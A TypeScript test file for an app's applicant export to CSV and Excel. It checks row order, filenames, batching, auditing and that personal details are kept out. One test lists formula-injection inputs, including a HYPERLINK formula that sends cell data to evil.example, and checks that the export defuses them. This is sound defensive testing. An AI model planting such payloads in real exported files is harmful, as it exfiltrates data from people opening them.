import { sql } from 'kysely';
import { beforeAll, expect, test } from 'vitest';
import { today } from '@app/contracts/calendar.ts';
import { fileInstant } from '@app/contracts/file-instant.ts';
import { PROJECT_BASE } from '@app/contracts/bases.ts';
import { changeOwnAccount } from '@app/contracts/identity/account-settings.ts';
import type { SignedInUser } from '@app/contracts/identity/person.ts';
import { furtherValues } from '@app/contracts/further-criteria.ts';
import { applicantWords } from '@app/words/applicants.ts';
import {
  countApplicants,
  exportApplicants,
  exportApplicantsWorkbook,
  listApplicants,
  remarkApplicant,
} from '@app/contracts/project/applicants.ts';
import { withdrawApplication } from '@app/contracts/project/applications.ts';
import type { Study } from '@app/contracts/project/studies.ts';
import type { Cell } from '@app/kit/csv.ts';
import { useApp } from '@app/test/support/app.ts';
import { listenForOrigin } from '@app/test/support/event-stream.ts';
import { registerParticipant, registerResearcher } from '@app/test/support/people.ts';
import { readWorkbook } from '@app/test/support/read-workbook.ts';
import { addApplicants, decide, readCode } from '#test/applicants.ts';
import { readCsv } from '#test/read-csv.ts';
import { apply, makeProject, makePublished, studyBody } from '#test/studies.ts';

const app = useApp();
let researcher: SignedInUser;
let other: SignedInUser;
let projectId: string;
beforeAll(async () => {
  [researcher, other] = await Promise.all([
    registerResearcher(app, { verified: true }),
    registerResearcher(app, { verified: true }),
  ]);
  projectId = (await makeProject(app, researcher)).id;
});

const save = (study: Pick<Study, 'id'>, query: Record<string, string> = {}, as = researcher) =>
  app.call(exportApplicants, { as, params: { id: study.id }, query });

const answers = studyBody('').screeners.map(({ question }) => question);

test('AP6 the file has one line per applicant, newest first, in the words of the screen', async () => {
  const study = await makePublished(app, researcher, { projectId, name: 'Wàákyé, round 1' });
  const [ama, kofi, esi, yaw] = [
    await registerParticipant(app, { withProfile: true }),
    await registerParticipant(app, { withProfile: true }),
    await registerParticipant(app, { withProfile: true }),
    await registerParticipant(app, { withProfile: true }),
  ];
  const ids = [];
  for (const person of [ama, kofi, esi, yaw])
    ids.push((await apply(app, person, study, [ids.length % 2])).content.id);
  const [ofAma = '', ofKofi = '', ofEsi = '', ofYaw = ''] = ids;
  await decide(app, researcher, study.id, [ofAma, ofYaw], { status: 'ACCEPTED' });
  await decide(app, researcher, study.id, [ofKofi], { status: 'DECLINED', reason: 'DATES_DO_NOT_FIT' });
  await decide(app, researcher, study.id, [ofEsi], { status: 'DECLINED', reason: 'OTHER' });
  await decide(app, researcher, study.id, [ofEsi], { status: 'PENDING' });
  await app.call(withdrawApplication, { as: yaw, params: { id: ofYaw } });
  const body = { remarks: 'Call first', isFavourite: true };
  await app.call(remarkApplicant, { as: researcher, params: { id: study.id, applicationId: ofAma }, body });

  const answer = await save(study);
  expect(answer.status).toBe(200);
  expect(answer.headers).toMatchObject({
    'content-type': 'text/csv; charset=utf-8',
    'content-disposition': `attachment; filename="Waakye_ round 1 - applicants ${today()}.csv"; filename*=UTF-8''W%C3%A0%C3%A1ky%C3%A9%2C%20round%201%20-%20applicants%20${today()}.csv`,
  });
  expect(answer.text.startsWith('\ufeff"Applied at (GMT)","First name",')).toBe(true);
  const [header, ...lines] = readCsv(answer.text);
  expect(header).toEqual([...Object.values(applicantWords.file.columns), ...answers]);
  const instant = expect.stringMatching(/^\d{4}-\d\d-\d\d \d\d:\d\d:\d\d$/);
  const profileColumns = async (person: SignedInUser, id: string) => [
    instant,
    person.firstName,
    person.lastName,
    await readCode(app, id),
    expect.stringMatching(/^\d\d$/),
    'Female',
    "Bachelor's degree",
    'GH₵ 10,000 to 30,000',
    'Mobile phone',
  ];
  const blank = (count: number) => Array<string>(count).fill('');
  const [daily, never] = [
    ['Every day', 'At the market'],
    ['Never', 'At the market'],
  ] as const;
  expect(lines).toEqual([
    [...(await profileColumns(yaw, ofYaw)), 'Not qualified', 'Withdrawn', ...blank(12), ...never],
    [...(await profileColumns(esi, ofEsi)), 'Qualified', 'Pending', ...blank(12), ...daily],
    [
      ...(await profileColumns(kofi, ofKofi)),
      'Not qualified',
      'Declined',
      instant,
      'The dates do not fit',
      ...blank(10),
      ...never,
    ],
    [
      ...(await profileColumns(ama, ofAma)),
      'Qualified',
      'Accepted',
      instant,
      ...blank(9),
      'Call first',
      'Yes',
      ...daily,
    ],
  ]);

  const some = readCsv(
    (await save(study, { screening: 'QUALIFIED', question: '1', answer: 'Every day', status: 'ACCEPTED' }))
      .text,
  );
  expect(some.map((line) => line[2])).toEqual(['Last name', ama.lastName]);
  const refused = await save(study, { page: '0' });
  expect(refused.json).toMatchObject({ code: 'INVALID_INPUT', content: [{ field: 'page' }] });
});

test('B3 the workbook has the same rows and the same name as the CSV file', async () => {
  const study = await makePublished(app, researcher, { projectId, name: '3/4' });
  const applicant = await registerParticipant(app, { withProfile: true });
  await apply(app, applicant, study);
  const params = { id: study.id };
  const answer = await app.call(exportApplicantsWorkbook, { as: researcher, params });
  expect(answer.headers).toMatchObject({
    'content-type': exportApplicantsWorkbook.file,
    'content-disposition': expect.stringContaining(`"3_4 - applicants ${today()}.xlsx"`) as string,
  });
  const { name, rows } = await readWorkbook(answer.bytes);
  expect(name).toBe(applicantWords.heading);
  const asText = (cell: Cell | null) => (cell instanceof Date ? fileInstant(cell) : String(cell ?? ''));
  expect(rows.map((row) => row.map(asText))).toEqual(readCsv((await save(study)).text));
  expect(rows[1]!.filter((cell) => typeof cell === 'number')).toHaveLength(1);
  expect(rows[1]!.filter((cell) => cell instanceof Date)).toHaveLength(1);
});

const dangerous = [
  '=HYPERLINK("https://evil.example?"&A1,"x")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '\ttab',
  '  =1+1',
  '\u00a0=1+1',
  '\u200b=1+1',
  '\u202e=1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠x',
  '\u3000＝1+1',
  '﹦1+1',
  '="a"\r\n,"b"',
];
const harmless = [
  'Nana "Kofi" Ama',
  "O'Brien, Jr.",
  'Ɛyɛ ɔkɔtɔ ŋ',
  'a\r\nb\nc',
  'new line\n=1+1',
  'return\r=1+1',
  '👩🏾‍🔬 and 🇬🇭',
  '1 - 2 = -1',
  ' a space before',
  '"',
  ',',
  "'quoted'",
];

test('AP6 cells that a spreadsheet would execute become text; all other text is unchanged', async () => {
  const texts = [...dangerous, ...harmless];
  const screeners = texts.map((text, index) => ({
    id: `q${String(index).padStart(5, '0')}`,
    question: text,
    options: [
      { id: `a${String(index).padStart(5, '0')}`, answer: text, eligibility: 'QUALIFY' as const },
      { id: `b${String(index).padStart(5, '0')}`, answer: 'no', eligibility: '' as const },
    ],
  }));
  const study = await makePublished(app, researcher, { projectId, screeners });
  const applicant = await registerParticipant(app, { withProfile: true });
  const body = { firstName: '=Ama"', lastName: '+Ɔwusu, Jr', phoneNumber: '' };
  expect((await app.call(changeOwnAccount, { as: applicant, body })).status).toBe(200);
  const application = (await apply(app, applicant, study)).content;
  const params = { id: study.id, applicationId: application.id };
  for (const [index, text] of texts.entries()) {
    await app.call(remarkApplicant, { as: researcher, params, body: { remarks: text } });
    const [header = [], line = []] = readCsv((await save(study)).text);
    const written = index < dangerous.length ? `'${text}` : text;
    const remarks = header.indexOf(applicantWords.file.columns.remarks);
    expect(line[remarks]).toBe(written);
  }
  const [header = [], line = []] = readCsv((await save(study)).text);
  const written = [...dangerous.map((text) => `'${text}`), ...harmless];
  expect(header.slice(-texts.length)).toEqual(written);
  expect(line.slice(-texts.length)).toEqual(written);
  expect(line.slice(1, 4)).toEqual([`'=Ama"`, `'+Ɔwusu, Jr`, await readCode(app, application.id)]);
});

test('a question without text still has a column header', async () => {
  const [first] = studyBody('').screeners;
  if (!first) throw new Error('The sample asks nothing');
  const study = await makePublished(app, researcher, {
    projectId,
    screeners: [{ ...first, question: '' }],
  });
  expect(readCsv((await save(study)).text)).toEqual([
    [...Object.values(applicantWords.file.columns), applicantWords.blankQuestion],
  ]);
});

test('many applicants are exported in batches, each once, even if they applied at the same moment', async () => {
  const study = await makePublished(app, researcher, { projectId });
  const ids = await addApplicants(app, study.id, 450);
  // A Date drops these microseconds.
  await sql`
    update project.applications set applied_at = applied_at + (abs(hashtext(application_id::text)) % 7) * interval '1 microsecond',
      remarks = application_id::text
    where study_id = ${study.id}`.execute(app.engine.owner);
  const [header = [], ...lines] = readCsv((await save(study)).text);
  const remarks = header.indexOf(applicantWords.file.columns.remarks);
  expect(lines).toHaveLength(ids.length);
  expect(new Set(lines.map((line) => line[remarks]))).toEqual(new Set(ids));
  expect(new Set(lines.map((line) => line.slice(1, 3).join()))).toEqual(new Set([',']));
});

test('a failure midway aborts the download', async () => {
  const study = await makePublished(app, researcher, { projectId });
  const ids = await addApplicants(app, study.id, 150);
  // This invalid choice is in the second batch.
  await sql`
    update project.applications set applied_at = '2020-01-01', gender_bit = 64
    where application_id = ${ids[0]}`.execute(app.engine.owner);
  const origin = await listenForOrigin(app.process.app);
  const url = `${origin}${PROJECT_BASE}/studies/${study.id}/applications/export`;
  const answer = await fetch(url, { headers: { authorization: `Bearer ${researcher.token}` } });
  expect(answer.status).toBe(200);
  await expect(answer.text()).rejects.toThrow('terminated');
});

test('OBS-2 an export is audited, and a refused one is not', async () => {
  const study = await makePublished(app, researcher, { projectId });
  const recordedViews = async () =>
    (
      await sql<{ userId: string }>`
        select user_id as "userId" from project.audit where event = 'APPLICANTS_EXPORTED' and about = ${study.id}`.execute(
        app.engine.owner,
      )
    ).rows;
  const refused = await save(study, {}, other);
  expect(refused).toMatchObject({ status: 404, json: { code: 'STUDY_NOT_FOUND' } });
  expect(refused.headers['content-disposition']).toBeUndefined();
  expect(await recordedViews()).toEqual([]);
  await save({ id: study.id.toUpperCase() });
  expect(await recordedViews()).toEqual([{ userId: researcher.userId }]);
});

test('D-30 AZ-8 AP6 no response about applicants contains a phone number, an address or a payout account', async () => {
  const study = await makePublished(app, researcher, { projectId });
  const applicant = await registerParticipant(app, { withProfile: true });
  const { content } = await apply(app, applicant, study);
  await decide(app, researcher, study.id, [content.id], { status: 'ACCEPTED' });
  const ask = { as: researcher, params: { id: study.id, applicationId: content.id } };
  const responses = [
    await app.call(listApplicants, ask),
    await app.call(countApplicants, ask),
    await app.call(remarkApplicant, { ...ask, body: { isFavourite: true } }),
    await save(study),
  ];
  const keys = new Set(responses.flatMap(({ json }) => keysIn(json)));
  const paging = ['totalPages', 'totalElements', 'size', 'number', 'numberOfElements'];
  const profileColumns = [
    'code',
    'firstName',
    'lastName',
    'age',
    'gender',
    'education',
    'annualHouseholdIncome',
    'devices',
  ];
  const asked = ['asked', ...Object.keys(furtherValues)];
  const cautions = ['quota', 'changedSince', 'sharesNumber'];
  const consent = ['consent', 'version', 'agreedAt', 'agreements', 'withdrawnAt', 'isConsentOutdated'];
  const own = ['id', 'applicantId', 'status', 'isQualified', 'responses', 'question', 'answer', 'appliedAt'];
  const fixedColumns = [
    'history',
    'at',
    'by',
    'reason',
    'note',
    'remarks',
    'isFavourite',
    'meeting',
    'payment',
    'unreadMessages',
  ];
  const counted = [
    'all',
    'byStatus',
    'byScreening',
    'wanted',
    'days',
    'day',
    'applied',
    'qualified',
    'byQuota',
  ];
  const counts = ['PENDING', 'ACCEPTED', 'DECLINED', 'WITHDRAWN', 'QUALIFIED', 'DISQUALIFIED'];
  expect([...keys].sort()).toEqual(
    [
      'content',
      ...paging,
      ...profileColumns,
      ...asked,
      ...cautions,
      ...consent,
      ...own,
      ...fixedColumns,
      ...counted,
      ...counts,
    ].sort(),
  );
  const { rows } = await sql<{ email: string }>`
    select email from identity.people where user_id = ${applicant.userId}`.execute(app.engine.owner);
  const secrets = [
    rows[0]?.email ?? 'none',
    '0241234567',
    '241234567',
    'MTN',
    'Esi Person',
    'Accra',
    '1996-04-02',
  ];
  for (const { text } of responses)
    expect(secrets.filter((secret) => text.replaceAll(' ', '').includes(secret.replaceAll(' ', '')))).toEqual(
      [],
    );
});

function keysIn(value: unknown): string[] {
  if (typeof value !== 'object' || value === null) return [];
  const isList = Array.isArray(value);
  return Object.entries(value).flatMap(([key, inner]) => [...(isList ? [] : [key]), ...keysIn(inner)]);
}
